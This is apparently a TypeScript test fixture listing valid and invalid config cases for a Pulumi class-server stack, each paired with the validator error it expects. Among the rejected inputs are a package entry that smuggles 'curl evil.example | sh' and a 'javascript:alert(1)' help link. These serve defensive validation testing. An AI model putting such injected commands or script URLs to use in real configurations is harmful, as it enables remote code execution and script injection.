// The stack config cases the tests share: a valid GitHub class and every invalid case of
// test/classConfig.test.ts, which test/contract.test.ts also puts to the server's check.
import assert from "node:assert/strict";
import { ClassConfig, ClassConfigError, parseClassConfig, SECRET_IS_SET } from "../../lib/config/classConfig";
import { rawClassConfig } from "../../lib/config/stack";
import { namespaced } from "./pulumiMocks";

/** A valid GitHub class, as Pulumi hands it over: every value a string, lists as JSON text. */
export const github: Record<string, unknown> = {
    dnsZone: "example.edu",
    subdomain: "engr101",
    letsEncryptEmail: "prof@example.edu",
    authProvider: "github",
    oauthClientId: "Iv1.0123456789abcdef",
    oauthClientSecret: SECRET_IS_SET,
    allowedUsers: '["ada-lovelace"]',
};

export const without = (raw: Record<string, unknown>, ...keys: string[]) =>
    Object.fromEntries(Object.entries(raw).filter(([k]) => !keys.includes(k)));

export interface BadCase {
    readonly what: string;
    readonly raw: Record<string, unknown>;
    readonly key: string;
    readonly says: string;
}

export const oidc = { ...github, authProvider: "oidc", allowedUsers: '["ada@example.edu"]' };

export const badCases: BadCase[] = [
    { what: "no zone", raw: without(github, "dnsZone"), key: "dnsZone", says: "dnsZone: got nothing; is required: The Cloudflare zone" },
    { what: "neither subdomain nor hostname", raw: without(github, "subdomain"), key: "subdomain", says: "expected subdomain or hostname to be set" },
    { what: "a subdomain that is not one label", raw: { ...github, subdomain: "engr_101" }, key: "subdomain", says: "expected one DNS label" },
    { what: "a hostname outside the zone", raw: { ...without(github, "subdomain"), hostname: "engr101.example.org" }, key: "hostname", says: "expected a name inside the zone example.edu" },
    { what: "a subdomain that contradicts the hostname", raw: { ...github, hostname: "cs50.example.edu" }, key: "subdomain", says: "expected subdomain to agree with hostname cs50.example.edu" },
    { what: "an invalid e-mail", raw: { ...github, letsEncryptEmail: "prof-at-example.edu" }, key: "letsEncryptEmail", says: "expected an e-mail address for Let's Encrypt notices. Fix: pulumi config set letsEncryptEmail instructor@example.edu" },
    { what: "root as admin user", raw: { ...github, adminUser: "root" }, key: "adminUser", says: 'adminUser: got "root"; expected a name that is not root, a system account' },
    { what: "an existing system account as admin user", raw: { ...github, adminUser: "www-data" }, key: "adminUser", says: "expected a name that is not root, a system account" },
    { what: "a student account as admin user", raw: { ...github, adminUser: "jupyter-ada" }, key: "adminUser", says: "or a student account (jupyter-…)" },
    { what: "an admin user with capitals", raw: { ...github, adminUser: "Prof" }, key: "adminUser", says: "expected a Linux user name" },
    { what: "a roster that lets nobody in", raw: without(github, "allowedUsers"), key: "allowedUsers", says: "otherwise nobody can log in" },
    { what: "an unknown auth provider", raw: { ...github, authProvider: "facebook" }, key: "authProvider", says: "expected github, google or oidc" },
    { what: "GitHub without a client id", raw: without(github, "oauthClientId"), key: "oauthClientId", says: "oauthClientId: got nothing; is required" },
    { what: "no client secret", raw: without(github, "oauthClientSecret"), key: "oauthClientSecret", says: "Fix: pulumi config set --secret oauthClientSecret -- <client secret>" },
    { what: "Google with GitHub organizations", raw: { ...github, authProvider: "google", allowedUsers: '["ada@example.edu"]', githubOrganizations: '["engr101"]' }, key: "githubOrganizations", says: "expected no GitHub organizations unless authProvider is github" },
    { what: "GitHub with Google hosted domains", raw: { ...github, googleHostedDomains: '["example.edu"]' }, key: "googleHostedDomains", says: "expected no hosted domains unless authProvider is google" },
    { what: "OIDC without its token endpoint", raw: { ...oidc, oidcAuthorizeUrl: "https://login.example.edu/authorize", oidcUserdataUrl: "https://login.example.edu/userinfo" }, key: "oidcTokenUrl", says: "is required when authProvider is oidc" },
    { what: "an ftp course repository", raw: { ...github, courseRepoUrl: "ftp://example.edu/course.git" }, key: "courseRepoUrl", says: "expected an https://, ssh:// or git@host:path URL" },
    { what: "credentials in the course repository URL", raw: { ...github, courseRepoUrl: "https://ada:hunter2@github.com/example/course.git" }, key: "courseRepoUrl", says: "with no credentials in it (use courseRepoToken)" },
    { what: "a token with an ssh course repository", raw: { ...github, courseRepoUrl: "git@github.com:example/course.git", courseRepoToken: SECRET_IS_SET }, key: "courseRepoToken", says: "courseRepoToken: got a secret value; expected courseRepoUrl to be an https:// URL" },
    { what: "an invalid CIDR", raw: { ...github, sshAllowedCidrs: '["203.0.113.300/32"]' }, key: "sshAllowedCidrs", says: "sshAllowedCidrs[0]: got \"203.0.113.300/32\"; expected CIDRs such as 203.0.113.4/32 or 2001:db8::/48. Fix: pulumi config set --path 'sshAllowedCidrs[0]' '203.0.113.4/32'" },
    { what: "no SSH source at all", raw: { ...github, sshAllowedCidrs: "[]" }, key: "sshAllowedCidrs", says: "expected at least 1 item" },
    { what: "an unparseable memory limit", raw: { ...github, memoryLimit: "2GB" }, key: "memoryLimit", says: 'memoryLimit: got "2GB"; expected a size such as 512M or 2G' },
    { what: "a CPU limit that is not a number", raw: { ...github, cpuLimit: "two" }, key: "cpuLimit", says: "expected a number" },
    { what: "a colour that is not a colour", raw: { ...github, loginPrimaryColor: "crimson" }, key: "loginPrimaryColor", says: "expected a colour such as #1f6feb" },
    { what: "a javascript: help link", raw: { ...github, loginHelpLinks: '[{"text":"Help","url":"javascript:alert(1)"}]' }, key: "loginHelpLinks", says: "loginHelpLinks[0].url: got \"javascript:alert(1)\"; expected an http(s) URL for help links. Fix: pulumi config set --path 'loginHelpLinks[0].url' https://example.edu/engr101" },
    { what: "a plain-http logo", raw: { ...github, loginLogoUrl: "http://example.edu/logo.png" }, key: "loginLogoUrl", says: "expected an https URL for the logo" },
    { what: "a negative idle timeout", raw: { ...github, idleTimeoutSeconds: "-5" }, key: "idleTimeoutSeconds", says: "expected 0 (never cull) or more seconds" },
    { what: "a fractional volume size", raw: { ...github, volumeSizeGb: "1.5" }, key: "volumeSizeGb", says: "expected a whole number of GiB" },
    { what: "yes for a boolean", raw: { ...github, retainVolume: "yes" }, key: "retainVolume", says: "expected true or false" },
    { what: "an unsupported image", raw: { ...github, image: "centos-stream-9-x64" }, key: "image", says: "expected ubuntu-24-04-x64 or debian-12-x64" },
    { what: "a shell command as a course package", raw: { ...github, coursePackages: '["numpy; curl evil.example | sh"]' }, key: "coursePackages", says: "expected pip requirements such as numpy==2.1.3" },
    { what: "a private key as an admin SSH key", raw: { ...github, adminSshKeys: '["-----BEGIN OPENSSH PRIVATE KEY-----"]' }, key: "adminSshKeys", says: "expected OpenSSH public keys" },
    { what: "a plain-http ACME directory", raw: { ...github, acmeDirectoryUrl: "http://acme.example.edu/directory" }, key: "acmeDirectoryUrl", says: "expected an https URL for the ACME directory" },
    { what: "an unknown grading tool", raw: { ...github, grading: "otter" }, key: "grading", says: 'grading: got "otter"; expected none or nbgrader. Fix: pulumi config set grading nbgrader' },
    { what: "a course id with nbgrader's separator", raw: { ...github, grading: "nbgrader", courseId: "engr+101" }, key: "courseId", says: 'courseId: got "engr+101"; expected a course id of letters, digits, _ and -' },
    { what: "a course id without grading", raw: { ...github, courseId: "engr101" }, key: "courseId", says: "expected no courseId unless grading is nbgrader. Fix: pulumi config set grading nbgrader, or pulumi config rm courseId" },
    { what: "grading on kubernetes", raw: { ...github, platform: "kubernetes", kubernetesVersion: "1.34.1-do.0", grading: "nbgrader" }, key: "grading", says: "expected none when platform is kubernetes: nbgrader's exchange is a directory every student's server shares" },
    { what: "a shared data folder with a slash", raw: { ...github, sharedData: "data/week1" }, key: "sharedData", says: 'sharedData: got "data/week1"; expected true, false or a folder name such as shared or datasets (letters, digits, . _ -, not starting with a dot, no /). Fix: pulumi config set sharedData true' },
    { what: "a hidden shared data folder", raw: { ...github, sharedData: ".data" }, key: "sharedData", says: "expected true, false or a folder name" },
    { what: "a shared data folder named as the course", raw: { ...github, sharedData: "course" }, key: "sharedData", says: "sharedData: got \"course\"; expected a name other than courseDirectory's course: both are folders in every student's home. Fix: pulumi config set sharedData datasets" },
    { what: "a fractional disk quota", raw: { ...github, diskQuotaGb: "2.5" }, key: "diskQuotaGb", says: 'diskQuotaGb: got "2.5"; expected a whole number of GiB. Fix: pulumi config set diskQuotaGb 5' },
    { what: "a zero disk quota", raw: { ...github, diskQuotaGb: "0" }, key: "diskQuotaGb", says: "expected at least 1 GiB" },
    { what: "a disk quota larger than the volume", raw: { ...github, diskQuotaGb: "50" }, key: "diskQuotaGb", says: "diskQuotaGb: got \"50\"; expected at most volumeSizeGb (20 GiB): a student cannot use more than the whole volume" },
    { what: "yes for paused", raw: { ...github, paused: "yes" }, key: "paused", says: 'paused: got "yes"; expected true or false. Fix: pulumi config set paused true' },
    { what: "a teaching assistant who is an instructor too", raw: { ...github, adminUsers: '["prof"]', teachingAssistants: '["tara","Prof"]' }, key: "teachingAssistants", says: "teachingAssistants[1]: got \"prof\"; expected someone who is not in adminUsers too: an instructor has every right a teaching assistant has and more; keep them in one of the two lists. Fix: pulumi config rm --path 'teachingAssistants[1]'" },
    { what: "a teaching assistant's e-mail address on GitHub", raw: { ...github, teachingAssistants: '["tara@example.edu"]' }, key: "teachingAssistants", says: "teachingAssistants[0]: got \"tara@example.edu\"; expected a GitHub user name, which has no @" },
    { what: "a teaching assistant's bare name with e-mail logins", raw: { ...oidc, oidcAuthorizeUrl: "https://login.example.edu/authorize", oidcTokenUrl: "https://login.example.edu/token", oidcUserdataUrl: "https://login.example.edu/userinfo", teachingAssistants: '["tara"]' }, key: "teachingAssistants", says: "teachingAssistants[0]: got \"tara\"; expected a whole e-mail address (tara@<domain>)" },
    { what: "a teaching assistant that is not a roster name", raw: { ...github, teachingAssistants: '["ta ra"]' }, key: "teachingAssistants", says: "teachingAssistants[0]: got \"ta ra\"; expected " },
    { what: "a home announcement with a control character", raw: { ...github, homeAnnouncement: "bell\u0007" }, key: "homeAnnouncement", says: "homeAnnouncement: got \"bell\\u0007\"; expected plain text of at most 500 characters" },
    { what: "a mistyped key", raw: { ...github, allowedUser: '["ada"]' }, key: "allowedUser", says: "allowedUser: is not a setting of this stack (did you mean allowedUsers?). Fix: pulumi config rm allowedUser" },
];

/** The problems parseClassConfig reports for a config it must refuse. */
export function problemsOf(raw: Record<string, unknown>) {
    try {
        parseClassConfig(raw);
    } catch (err) {
        assert.ok(err instanceof ClassConfigError, String(err));
        return err.problems;
    }
    return assert.fail("expected a ClassConfigError");
}

/** A stack's config as the program reads it: the keys in our namespace, read and checked. */
export const parseStackConfig = (raw: Record<string, string>): ClassConfig => parseClassConfig(rawClassConfig(namespaced(raw)));

/** The messages of every problem preview would report for a stack's config; none for a valid one. */
export function previewProblems(raw: Record<string, string>): string[] {
    try {
        parseStackConfig(raw);
        return [];
    } catch (err) {
        assert.ok(err instanceof ClassConfigError, String(err));
        return err.problems.map((p) => p.message);
    }
}
